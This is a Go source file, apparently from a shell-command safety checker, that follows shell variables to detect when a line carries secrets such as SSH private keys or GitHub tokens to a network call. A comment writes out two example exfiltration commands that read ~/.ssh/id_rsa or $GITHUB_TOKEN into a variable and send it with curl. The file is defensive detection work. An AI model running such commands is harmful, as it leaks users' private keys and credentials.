package patterns

import (
	"slices"

	"mvdan.cc/sh/v3/syntax"
)

// A secret carried in a variable (rt13d, eff7a): `K=$(cat ~/.ssh/id_rsa);
// curl -d "$K" URL` and `T=$GITHUB_TOKEN; curl -H "Authorization: $T"
// URL` send the secret as surely as the word that read it would.
// [secret-value] follows a variable the line assigns to what its
// assignments held (anywhere in the line: a loop runs a later one first): a part inside an assignment's value that reads a
// secrets file or prints the environment or stored credentials makes the
// variable certainly a secret; a token's variable or a token printer
// there makes it a token, judged as a token is (by where it is sent).
// Copies of copies are followed up to secretVarDepth steps.

// secretVarDepth bounds how many assignments deep a variable is followed.
const secretVarDepth = 4

// assignCap bounds the values and names kept per variable.
const assignCap = 8

// noteAssignValue keeps where an assignment's value stands and the
// variables it reads, for [secret-value].
func (r *reading) noteAssignValue(a *syntax.Assign, sc scope) {
	if a.Name == nil || a.Naked {
		return
	}
	f := r.vars[a.Name.Value]
	if f == nil {
		return
	}
	values := []*syntax.Word{a.Value}
	if a.Array != nil {
		values = values[:0]
		for _, e := range a.Array.Elems {
			values = append(values, e.Value)
		}
	}
	for _, v := range values {
		if v != nil && len(f.spans) < assignCap {
			f.spans = append(f.spans, sc.span(v))
			f.reads = paramReads(v.Parts, f.reads)
			f.words = append(f.words, r.valueWord(a, v, sc))
			f.noteValueAt(sc.span(v).Start)
		}
	}
}

// paramReads appends the variables a word's parts read to reads, up to
// assignCap of them.
func paramReads(parts []syntax.WordPart, reads []string) []string {
	for _, p := range parts {
		switch p := p.(type) {
		case *syntax.DblQuoted:
			reads = paramReads(p.Parts, reads)
		case *syntax.ParamExp:
			if p.Param != nil && len(reads) < assignCap {
				reads = append(reads, p.Param.Value)
			}
			if p.Exp != nil && p.Exp.Word != nil && len(reads) < assignCap {
				reads = wordValueReads(p.Exp.Word.Parts, reads) // K=${X:-$TOKEN}
			}
		}
	}
	return reads
}

// Variable states in secretVars.
const (
	varToken   uint8 = 1 // holds a token: judged by where it goes
	varCertain uint8 = 2 // holds a secret, wherever it goes
)

// secretVar judges a variable the word reads: certain when an assignment
// of it anywhere in the line (a loop runs a later one before an earlier
// use) read a secret, token when it held a token. The line's variables
// are judged once per evaluation (secretVarsOf).
func (c *Context) secretVar(name string) (certain, token bool) {
	st := c.secretVarsOf()[name]
	return st&varCertain != 0, st != 0
}

// secretVarsOf judges every variable the line assigns, once per
// evaluation: one pass over the parts finds those that read a secret
// (or print a token) and the assignments around them, then what copies
// of copies read is carried up to secretVarDepth steps. Its cost is
// bounded by the parts times a few assignments each, never parts times
// parts.
func (c *Context) secretVarsOf() map[string]uint8 {
	cmd := c.evalCommand()
	if cmd == nil || len(cmd.Parts) == 0 || cmd.Parts[0].line == nil {
		return nil
	}
	if c.memo != nil && c.memo.secretVars != nil {
		return c.memo.secretVars
	}
	vars := cmd.Parts[0].line.vars
	out := map[string]uint8{}
	if c.memo != nil {
		// kept while it is filled: a part judged below may ask of a
		// variable again (echo "$S" inside S=$(…)), and is answered with
		// what is known so far instead of a judgement begun anew
		c.memo.secretVars = out
	}
	type assign struct {
		name string
		span Span
	}
	var spans []assign
	for name, f := range vars {
		for _, sp := range f.spans {
			spans = append(spans, assign{name, sp})
		}
	}
	slices.SortFunc(spans, func(a, b assign) int { return a.span.Start - b.span.Start })
	for _, p := range cmd.Parts {
		k, _ := slices.BinarySearchFunc(spans, p.Span.Start, func(a assign, t int) int {
			if a.span.Start <= t {
				return -1
			}
			return 1
		})
		inside := false
		for n := k - 1; n >= 0 && k-n <= assignCap && !inside; n-- {
			inside = within2(p.Span, spans[n].span)
		}
		if !inside && !lineReaders.get()[p.Program] {
			continue // only what an assignment or a read holds is judged
		}
		st := secretOutput(p, c)
		if st == 0 {
			continue
		}
		if lineReaders.get()[p.Program] && st&varCertain != 0 {
			for _, a := range p.Args() {
				if v, ok := a.Literal(); ok {
					out[v] |= st
				}
			}
		}
		for n := k - 1; n >= 0 && k-n <= assignCap; n-- {
			if within2(p.Span, spans[n].span) {
				out[spans[n].name] |= st
			}
		}
	}
	for range secretVarDepth {
		for name, f := range vars {
			for _, r := range f.reads {
				switch {
				case secretName(r):
					out[name] |= varToken
				case r != name:
					out[name] |= out[r]
				}
			}
		}
	}
	if c.memo != nil {
		c.memo.secretVars = out
	}
	return out
}

// lineReaders are the builtins that read their standard input into a
// variable they are given.
var lineReaders = lazy[map[string]bool]{build: func() map[string]bool { return map[string]bool{"read": true, "mapfile": true, "readarray": true} }}
